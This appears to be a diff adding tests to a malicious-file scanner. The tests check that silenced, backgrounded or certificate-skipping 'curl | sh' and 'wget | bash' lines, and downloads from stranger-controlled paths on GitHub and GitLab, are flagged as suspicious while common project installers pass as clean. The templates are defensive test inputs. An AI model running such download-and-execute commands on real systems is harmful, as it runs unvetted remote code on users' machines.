@@ -60,6 +60,52 @@ test('an installer from where only its project puts anything weighs little', asy
     )
 })
 
+/** What a stranger puts below the name of a known owner: attachments, pull requests, wikis, commits that were only proposed. */
+const STRANGERS = [
+  'https://github.com/microsoft/vcpkg/files/14125503/x.sh',
+  'https://github.com/microsoft/vcpkg/assets/1/x.sh',
+  'https://github.com/nvm-sh/nvm/raw/refs/pull/31/head/x.sh',
+  'https://raw.githubusercontent.com/nvm-sh/nvm/refs/pull/31/head/x.sh',
+  'https://raw.githubusercontent.com/wiki/nvm-sh/nvm/x.sh',
+  'https://gitlab.com/gitlab-org/gitlab/uploads/0f1e2d3c4b5a69788796a5b4c3d2e1f0/x.sh',
+] as const
+/** What installers do not do: they talk to whoever started them, wait, and ask for a certificate. */
+const UNSEEN: Readonly<Record<string, (url: string) => string>> = {
+  'what it prints is thrown away': (url) => `curl -fsSL ${url} | sh >/dev/null 2>&1`,
+  'it goes on by itself': (url) => `wget -qO- ${url} | bash &`,
+  'it outlives its terminal': (url) => `nohup bash -c "curl -fsSL ${url} | sh"`,
+  'no certificate is asked for': (url) => `curl -ksL ${url} | sh`,
+}
+
+for (const [what, write] of Object.entries(UNSEEN))
+  test(`a download that is piped into a shell is suspicious from every code host where ${what}`, async () => {
+    for (const url of [...BORROWED.map((from) => `${from}/x.sh`), ...STRANGERS]) {
+      const { verdict } = await analyzeFile(Buffer.from(`#!/bin/sh\n${write(url)}\n`), { fileName: 'setup.sh', now })
+      assert.equal(verdict.label, 'suspicious', url)
+    }
+  })
+
+test('what strangers put below a known owner speaks for nobody', async () => {
+  const own = await scoreOf('setup.sh', `#!/bin/sh\ncurl -fsSL ${OWN}/x.sh | sh\n`)
+  for (const url of STRANGERS) assert.ok((await scoreOf('setup.sh', `#!/bin/sh\ncurl -fsSL ${url} | sh\n`)) >= own, url)
+})
+
+test('installers as their projects write them are clean', async () => {
+  for (const line of [
+    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
+    'curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash',
+    '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
+    'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
+    'curl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash - >/dev/null 2>&1',
+    'curl -sSL https://raw.githubusercontent.com/somebody/tool/main/install.sh | bash -s -- -b /usr/local/bin',
+    'curl -L https://install.somebody.example | sh && echo installed',
+    'curl -sL https://install.somebody.example | bash > install.log 2>&1',
+  ]) {
+    const { verdict } = await analyzeFile(Buffer.from(`#!/bin/sh\n${line}\n`), { fileName: 'setup.sh', now })
+    assert.equal(verdict.label, 'clean', line)
+  }
+})
+
 /** What installers of known projects and scripts of the own network share with attacks: by name, the finding that tells it. */
 const SHARED: Readonly<Record<string, readonly [finding: string, text: string]>> = {
   'install.bat': [
